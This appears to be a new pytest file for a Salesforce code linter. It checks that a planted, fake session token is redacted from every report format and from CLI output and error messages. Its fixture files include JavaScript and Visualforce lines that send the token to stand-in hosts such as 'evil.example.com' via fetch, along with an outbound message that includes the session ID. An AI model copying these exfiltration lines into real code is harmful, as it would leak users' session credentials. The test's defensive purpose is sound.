@@ -1,0 +1,207 @@
+"""A live session ID or access token found in a package never reaches a report, a log or an error.
+
+SID009 flags token-shaped literals because whoever reads them can act as the user; a report that
+repeated one would leak it again, into CI logs, code-scanning alerts and HTML pages that travel
+further than the source. The token is planted everywhere a scan can meet it: Apex, Visualforce,
+JavaScript and metadata XML, inside suppression reasons, next to parse errors, and in file and
+folder names. Every output format, stdout and stderr are searched for its secret part, in any
+encoding a report could give it (raw, percent-encoded, HTML-escaped); the redacted prefix may show.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+import os
+import subprocess
+import sys
+from functools import cache
+from pathlib import Path
+from urllib.parse import quote
+
+import pytest
+
+from apexlint.engine import ScanOptions, scan
+from apexlint.lower.secrets import TOKEN_RE, redact
+from tests.fuzz.inputs import REPO, SFDX_SOURCE, write_sfdx_package
+
+TOKEN = "00D5g000004XyZaEAK!ARcAQKz8pT3vNq1xLm0bC4dEfGhIjKlMnOpQrStUvWxYz.1234567890abcdef"
+SECRET_PART = TOKEN.split("!", 1)[1]
+FORMATS = ("text", "json", "sarif", "html")
+
+
+def _leaks(text: str) -> list[str]:
+    """The forms of the token's secret part found in `text` (the `00D5g` prefix may show)."""
+    forms = {"raw": SECRET_PART, "percent-encoded": quote(SECRET_PART, safe=""),
+             "html-escaped": html.escape(SECRET_PART), "json-escaped": json.dumps(SECRET_PART)[1:-1],
+             "first 24 characters": SECRET_PART[:24], "whole token percent-encoded": quote(TOKEN, safe="/")}
+    return sorted(name for name, form in forms.items() if form in text)
+
+
+def test_the_planted_value_is_token_shaped() -> None:
+    assert TOKEN_RE.fullmatch(TOKEN)
+    assert _leaks(redact(f"x = '{TOKEN}'")) == []
+    assert redact(TOKEN).startswith("00D5g")
+
+
+# -- the package --------------------------------------------------------------------------------
+APEX = f"""public with sharing class Leaky {{
+    private static final String KEY = '{TOKEN}';
+    public static void logIt() {{
+        String sid = UserInfo.getSessionId();
+        // apexlint:disable-next-line SID003 -- approved by security review, see {TOKEN}
+        System.debug(sid);
+    }}
+    public static String header() {{
+        return 'Bearer {TOKEN}';
+    }}
+}}
+"""
+APEX_BROKEN = f"""public class Broken {{
+    String a = '{TOKEN}' + ;
+    Integer b = ({TOKEN}
+"""
+PAGE = f"""<apex:page controller="Leaky">
+  <script>var token = '{TOKEN}'; fetch('https://x.example.com/?t=' + token);</script>
+  <div data-token="{TOKEN}">{TOKEN}</div>
+  <!-- apexlint:disable-next-line SID009 -- kept for the demo org {TOKEN} -->
+  <span title="{TOKEN}">{{!'{TOKEN}'}}</span>
+  <apex:outputLink value="https://example.com/?sid={TOKEN}">go</apex:outputLink>
+  <div <{TOKEN}
+</apex:page>
+"""
+SCRIPT = f"""var token = '{TOKEN}';
+// apexlint:disable-next-line SID009 -- rotated weekly, current value {TOKEN}
+var again = "{TOKEN}";
+fetch('https://evil.example.com/c?t=' + encodeURIComponent(token));
+var broken = = '{TOKEN}';
+"""
+WORKFLOW = f"""<?xml version="1.0" encoding="UTF-8"?>
+<Workflow xmlns="http://soap.sforce.com/2006/04/metadata">
+    <outboundMessages>
+        <fullName>Leak</fullName>
+        <description>{TOKEN}</description>
+        <endpointUrl>https://hooks.example.com/in?token={TOKEN}</endpointUrl>
+        <!-- apexlint:disable-next-line SID005 -- receiver authenticates with {TOKEN} -->
+        <includeSessionId>true</includeSessionId>
+        <name>Leak</name>
+    </outboundMessages>
+    <broken attr="{TOKEN}"
+</Workflow>
+"""
+LATIN1_TRIGGER = f"trigger Latin on Account (after insert) {{ String s = 'é{TOKEN}'; }}\n"
+OBJECT = f"""<?xml version="1.0" encoding="UTF-8"?>
+<CustomObject xmlns="http://soap.sforce.com/2006/04/metadata">
+    <webLinks>
+        <fullName>Open</fullName>
+        <url>https://portal.example.com/open?t={TOKEN}&amp;sid={{!$Api.Session_ID}}</url>
+    </webLinks>
+</CustomObject>
+"""
+
+
+def _contents_package(root: Path) -> Path:
+    """The token inside files of every kind, in code, text, comments and suppression reasons."""
+    return write_sfdx_package(root, {
+        f"{SFDX_SOURCE}/classes/Leaky.cls": APEX.encode(),
+        f"{SFDX_SOURCE}/classes/Broken.cls": APEX_BROKEN.encode(),
+        f"{SFDX_SOURCE}/triggers/Latin.trigger": LATIN1_TRIGGER.encode("latin-1"),
+        f"{SFDX_SOURCE}/pages/Leaky.page": PAGE.encode(),
+        f"{SFDX_SOURCE}/staticresources/leaky.js": SCRIPT.encode(),
+        f"{SFDX_SOURCE}/workflows/Account.workflow-meta.xml": WORKFLOW.encode(),
+        f"{SFDX_SOURCE}/objects/Account/Account.object-meta.xml": OBJECT.encode(),
+    }, namespace="acme")
+
+
+def _path_package(root: Path) -> Path:
+    """The token as a file name and as a folder name, holding a finding and a notification."""
+    root = write_sfdx_package(root, {
+        f"{SFDX_SOURCE}/classes/{TOKEN}.cls": APEX.encode(),
+        f"{SFDX_SOURCE}/classes/{TOKEN}/Inner.cls": b"public class Inner { String s = UserInfo.getSessionId(); }\n",
+        f"{SFDX_SOURCE}/classes/{TOKEN}/Binary.cls": b"public class Binary {\x00\x01\x02\xff",
+        f"{SFDX_SOURCE}/pages/{TOKEN}.page": b"<apex:page><div <\n",
+    }, namespace="acme")
+    (root / SFDX_SOURCE / "classes" / "Gone.cls").symlink_to(f"{TOKEN}-missing.cls")
+    return root
+
+
+# -- running the command line -------------------------------------------------------------------
+def _cli(cwd: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "PYTHONPATH": str(REPO), "NO_COLOR": "1"}
+    return subprocess.run([sys.executable, "-m", "apexlint", *args], cwd=cwd, env=env, capture_output=True,
+                          text=True, timeout=300, check=False)
+
+
+@cache
+def _outputs(cwd: Path, fmt: str) -> dict[str, str]:
+    """Everything a user or CI sees from one scan in `fmt`: the report (text on stdout, the others
+    in a file, as they are normally used) and stderr."""
+    to_stdout = fmt == "text"
+    proc = _cli(cwd, "scan", "pkg", "--format", fmt, "--no-cache", *(() if to_stdout else ("-o", f"report.{fmt}")))
+    assert proc.returncode == 1, proc.stderr
+    report = proc.stdout if to_stdout else (cwd / f"report.{fmt}").read_text(encoding="utf-8")
+    return {"report": report, "stdout": proc.stdout, "stderr": proc.stderr}
+
+
+@pytest.fixture(scope="module")
+def contents_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    cwd = tmp_path_factory.mktemp("secrets-in-contents")
+    _contents_package(cwd / "pkg")
+    return cwd
+
+
+@pytest.fixture(scope="module")
+def path_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    cwd = tmp_path_factory.mktemp("secrets-in-paths")
+    _path_package(cwd / "pkg")
+    return cwd
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_a_token_in_any_file_never_appears_in_any_output(fmt: str, contents_dir: Path) -> None:
+    outputs = _outputs(contents_dir, fmt)
+    assert "SID009" in outputs["report"], "the planted tokens must be found for this test to mean anything"
+    leaks = {where: found for where, text in outputs.items() if (found := _leaks(text))}
+    assert not leaks, f"the token's secret part appears in {leaks}"
+
+
+def test_the_redacted_prefix_is_what_reports_show(contents_dir: Path) -> None:
+    outputs = _outputs(contents_dir, "text")
+    assert "00D5g" in outputs["stdout"]
+
+
+_PATH_LEAK = ("apexlint/report/{module}: a file or folder named like a token is written unredacted: {how}. "
+              "Paths are not passed through redact()/scrub() in this format (text and HTML do redact them).")
+
+
+@pytest.mark.parametrize("fmt", [
+    "text",
+    "html",
+    pytest.param("json", marks=pytest.mark.xfail(strict=True, reason=_PATH_LEAK.format(
+        module="json_report.py", how="raw in every finding/notification/verdict 'path' and 'sourceId'"))),
+    pytest.param("sarif", marks=pytest.mark.xfail(strict=True, reason=_PATH_LEAK.format(
+        module="sarif.py", how="percent-encoded ('!' as %21) in every artifactLocation.uri"))),
+])
+def test_a_token_in_a_file_or_folder_name_never_appears_in_any_output(fmt: str, path_dir: Path) -> None:
+    outputs = _outputs(path_dir, fmt)
+    leaks = {where: found for where, text in outputs.items() if (found := _leaks(text))}
+    assert not leaks, f"the token's secret part appears in {leaks}"
+
+
+@pytest.mark.xfail(strict=True, reason=(
+    "apexlint/scan_command.py _config raises CliError(f'path does not exist: {p}') and apexlint/cli.py main "
+    "prints CliError/ClickException messages as they are: a PATH argument named like a token reaches stderr "
+    "(a CI log) unredacted. Passing the one-line error through redact() in cli.main would cover every error."))
+def test_a_token_in_a_command_line_error_is_redacted(tmp_path: Path) -> None:
+    proc = _cli(tmp_path, "scan", f"{TOKEN}.cls")
+    assert proc.returncode == 2
+    assert not _leaks(proc.stderr + proc.stdout), proc.stderr
+
+
+def test_notification_messages_carry_no_token_from_file_contents(tmp_path: Path) -> None:
+    """Notifications are built from file text (parse errors quote it): they must be redacted at the source."""
+    root = _contents_package(tmp_path / "pkg")
+    result = scan(ScanOptions(paths=(root,), root=tmp_path, jobs=1))
+    assert result.notifications, "the broken files must produce notifications for this test to mean anything"
+    leaking = [n.message for n in result.notifications if _leaks(n.message)]
+    assert not leaking, leaking
